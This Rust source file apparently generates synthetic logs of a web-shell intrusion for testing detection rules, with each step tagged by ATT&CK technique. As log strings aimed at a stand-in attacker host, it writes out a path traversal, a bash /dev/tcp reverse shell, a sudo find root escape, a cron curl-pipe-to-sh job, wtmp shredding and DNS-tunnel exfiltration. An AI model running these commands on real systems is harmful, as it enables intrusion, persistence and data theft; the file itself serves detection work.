//! The web shell: one address that scans, reads, uploads and stays on the web server, from Wednesday before dawn to
//! Thursday morning.

use super::clock::{At, at};
use super::linux::{ROOT_SERVICE, WWW_DATA, Web};
use super::log::{Mark, Side};
use super::network::{Conn, Sensors};
use super::world::*;

pub const ID: &str = "web-shell";
/// What makes it come back.
pub const CRON_FILE: &str = "/etc/cron.d/php-session";
const SCRIPT: &str = "python-requests/2.32.3";
/// The worker of php-fpm that runs the uploaded script.
const PHP_WORKER: i64 = 1_284;

fn mark(
    stage: &'static str,
    technique: &'static str,
    what: &'static str,
    rules: &'static [&'static str],
) -> Mark {
    Mark { side: Side::Attack(ID), stage, technique, what, rules }
}

pub fn server(web: &mut Web, net: &mut Sensors) {
    reconnaissance(web, net);
    uploads(web, net);
    let root = shell_of_root(web, net);
    stays(web, root, net);
}

/// 01:55 to 02:16.
fn reconnaissance(web: &mut Web, net: &mut Sensors) {
    let stage = "1-reconnaissance";
    let scan = mark(
        stage,
        "T1595.001",
        "ports of the web server tried one after another",
        &["firewall/traffic/port_scan"],
    );
    for (i, port) in (8000..8036).enumerate() {
        let t = at(2, 1, 55, 0).plus_s(i as i64 * 2);
        net.refused(t, "outside", VANDAL, (WEB_PUBLIC, port), Some(&scan));
    }
    let guess = mark(
        stage,
        "T1595.003",
        "folders of the site guessed",
        &["webserver/access/content_guessing", "webserver/access/attack_tool_user_agent"],
    );
    let comes = mark(stage, "T1595.003", "the connection for that", &[]);
    net.inbound(at(2, 2, 0, 59), VANDAL, 443, (110, 61_204), Some(&comes));
    let folders = ["admin", "backup", "old", "dev", "api", "upload", "test", "files", "private", "cgi-bin"];
    for i in 0..110 {
        let line = format!("GET /{}/{}", folders[i % 10], i / 10);
        let t = at(2, 2, 1, 0).plus_ms(i as i64 * 900);
        web.request(t, VANDAL, &line, (404, 162), "gobuster/3.6", Some(&guess));
    }
    let stage = "2-traversal";
    let agent = "curl/8.5.0";
    let climb = mark(
        stage,
        "T1190",
        "a file of the system read through the download page",
        &["webserver/access/path_traversal_to_system_file"],
    );
    let tries = mark(stage, "T1190", "a traversal that was refused", &[]);
    let requests = [
        (at(2, 2, 13, 51), "GET /download?file=../../etc/passwd", (404, 162), &tries),
        (at(2, 2, 14, 7), "GET /download?file=../../../../etc/passwd", (200, 1821), &climb),
        (at(2, 2, 15, 22), "GET /download?file=..%2f..%2f..%2f..%2fvar/www/shop/.env", (200, 644), &climb),
    ];
    for (t, line, answer, mark) in requests {
        web.request(t, VANDAL, line, answer, agent, Some(mark));
        net.inbound(t.plus_ms(-40), VANDAL, 443, (1, answer.1 + 900), Some(&tries));
    }
}

/// 10:30 to 10:36: a script in the clothes of a picture, and what it is told to run.
fn uploads(web: &mut Web, net: &mut Sensors) {
    let stage = "3-web-shell";
    let upload = mark(stage, "T1505.003", "a script is uploaded as a picture", &[]);
    let t = at(2, 10, 30, 12);
    web.request(t, VANDAL, "POST /account/avatar.php", (302, 0), SCRIPT, Some(&upload));
    net.inbound(t.plus_ms(-55), VANDAL, 443, (2, 4_812), Some(&upload));
    let lands = mark(stage, "T1505.003", "the script lies among the pictures", &[]);
    let file = "/var/www/shop/uploads/2026/thumb.php";
    web.makes_file(t.plus_ms(20), WWW_DATA, ("/usr/sbin/php-fpm8.2", PHP_WORKER), file, Some(&lands));
    let shell = mark(
        stage,
        "T1505.003",
        "the uploaded script runs commands",
        &["webserver/access/web_shell_request"],
    );
    let runs = mark(
        stage,
        "T1059.004",
        "the web server's user runs what the script was given",
        &["linux/auditd/web_user_runs_shell"],
    );
    let commands = [
        ("id", "id"),
        ("uname%20-a", "uname -a"),
        ("cat%20/etc/crontab", "cat /etc/crontab"),
        ("sudo%20-l", "sudo -l"),
    ];
    for (i, (in_address, typed)) in commands.iter().enumerate() {
        let t = at(2, 10, 31, 55).plus_s(i as i64 * 48);
        let line = format!("GET /uploads/2026/thumb.php?cmd={in_address}");
        web.request(t, VANDAL, &line, (200, 54 + i as i64 * 131), SCRIPT, Some(&shell));
        net.inbound(t.plus_ms(-35), VANDAL, 443, (1, 1_300), Some(&shell_comes(stage)));
        let started = ("/usr/bin/dash", &["sh", "-c", *typed][..]);
        web.executes_below(t.plus_ms(30), WWW_DATA, PHP_WORKER, started, Some(&runs));
    }
}

fn shell_comes(stage: &'static str) -> Mark {
    mark(stage, "T1505.003", "the connection for that", &[])
}

/// 10:44 to 10:53: a shell that calls back, and root by what sudo allows. The number of root's shell is given back.
fn shell_of_root(web: &mut Web, net: &mut Sensors) -> i64 {
    let stage = "4-reverse-shell";
    let asked = mark(
        stage,
        "T1505.003",
        "the uploaded script is told to call back",
        &["webserver/access/web_shell_request"],
    );
    let reverse = mark(
        stage,
        "T1059.004",
        "a shell is tied to a connection to the same address",
        &["linux/process_creation/reverse_shell", "linux/auditd/web_user_runs_shell"],
    );
    let t = at(2, 10, 44, 3);
    web.request(t, VANDAL, "POST /uploads/2026/thumb.php?cmd=", (200, 0), SCRIPT, Some(&asked));
    net.inbound(t.plus_ms(-35), VANDAL, 443, (1, 1_300), Some(&shell_comes(stage)));
    let line = format!("bash -i >& /dev/tcp/{VANDAL}/4444 0>&1");
    let started = ("/usr/bin/bash", &["bash", "-c", line.as_str()][..]);
    let shell = web.executes_below(t.plus_ms(25), WWW_DATA, PHP_WORKER, started, Some(&reverse));
    let wire = mark(stage, "T1071.001", "that connection on the wire", &[]);
    net.outbound(t.plus_ms(40), ("dmz", WEB.address), (VANDAL, 4444), (1810, 41_822), Some(&wire));
    let c = Conn {
        from: WEB.address,
        to: VANDAL,
        port: 4444,
        service: "-",
        sent: 38_110,
        received: 3_712,
        seconds: 1810,
    };
    net.connection(t.plus_ms(40), &c, Some(&wire));
    let stage = "5-root";
    let escape = mark(
        stage,
        "T1548.003",
        "a shell of root out of find, which sudo allows to www-data",
        &["linux/sudo/shell_escape_by_sudo"],
    );
    let opened = mark(stage, "T1548.003", "the same, as other records tell it", &[]);
    let t = at(2, 10, 52, 37);
    let command = ["sudo", "find", ".", "-exec", "/bin/sh", ";", "-quit"];
    let sudo = web.executes_below(t, WWW_DATA, shell, ("/usr/bin/sudo", &command), Some(&opened));
    let text = "www-data : PWD=/var/www/shop ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh ; -quit";
    web.auth(t.plus_ms(4), "sudo", text, Some(&escape));
    let text = "pam_unix(sudo:session): session opened for user root(uid=0) by (uid=33)";
    web.auth(t.plus_ms(5), "sudo", text, Some(&opened));
    let find = web.executes_below(
        t.plus_ms(12),
        ROOT_SERVICE,
        sudo,
        ("/usr/bin/find", &command[1..]),
        Some(&opened),
    );
    let shell = ("/usr/bin/dash", &["/bin/sh"][..]);
    web.executes_below(t.plus_ms(16), ROOT_SERVICE, find, shell, Some(&opened))
}

/// 10:55 to the next morning: a job of cron, a wiped log, and names that carry data.
fn stays(web: &mut Web, root: i64, net: &mut Sensors) {
    let stage = "6-persistence";
    let file =
        mark(stage, "T1053.003", "a job of cron is placed by hand", &["linux/auditd/cron_file_written"]);
    web.makes_file(at(2, 10, 55, 10), ROOT_SERVICE, ("/usr/bin/dash", root), CRON_FILE, Some(&file));
    let job = mark(
        stage,
        "T1053.003",
        "the job fetches and runs what the same address serves",
        &["linux/cron/cron_runs_download", "linux/process_creation/download_run_in_shell"],
    );
    let fetched = mark(stage, "T1105", "the fetch on the wire", &[]);
    for n in 0..21 {
        let hour = 11 + n;
        let t = at(2 + hour / 24, hour % 24, 40, 1);
        let cron = format!("CRON[{}]", 21_000 + n * 37);
        web.syslog(t, &cron, &format!("(root) CMD (curl -fsSL http://{VANDAL}/s | sh)"), Some(&job));
        fetch(net, t.plus_ms(300), &fetched);
    }
    let wipe = mark(
        "7-cover",
        "T1070.002",
        "the record of sign-ins is overwritten",
        &["linux/process_creation/log_files_wiped"],
    );
    let shred = ("/usr/bin/shred", &["shred", "-zu", "/var/log/wtmp"][..]);
    web.executes_below(at(2, 11, 8, 44), ROOT_SERVICE, root, shred, Some(&wipe));
    let stage = "8-exfiltration";
    let client = mark(stage, "T1048.003", "a client for names as a channel starts", &[]);
    let tunnel = ("/usr/local/sbin/php-sessiond", &["php-sessiond", "--zone", VANDAL_ZONE][..]);
    web.executes_below(at(2, 11, 3, 12), ROOT_SERVICE, root, tunnel, Some(&client));
    let names = mark(
        stage,
        "T1048.003",
        "a file in pieces, inside of names",
        &["zeek/dns/tunnelling_shape", "dns/query/long_text_answer"],
    );
    for i in 0..48 {
        let name = format!("{}.{VANDAL_ZONE}", net.random.hex(48));
        net.query(at(2, 23, 40, 0).plus_s(i * 4), WEB.address, &name, "TXT", "ok", Some(&names));
    }
}

fn fetch(net: &mut Sensors, t: At, mark: &Mark) {
    let c = Conn {
        from: WEB.address,
        to: VANDAL,
        port: 80,
        service: "http",
        sent: 212,
        received: 1_904,
        seconds: 0,
    };
    net.connection(t, &c, Some(mark));
}
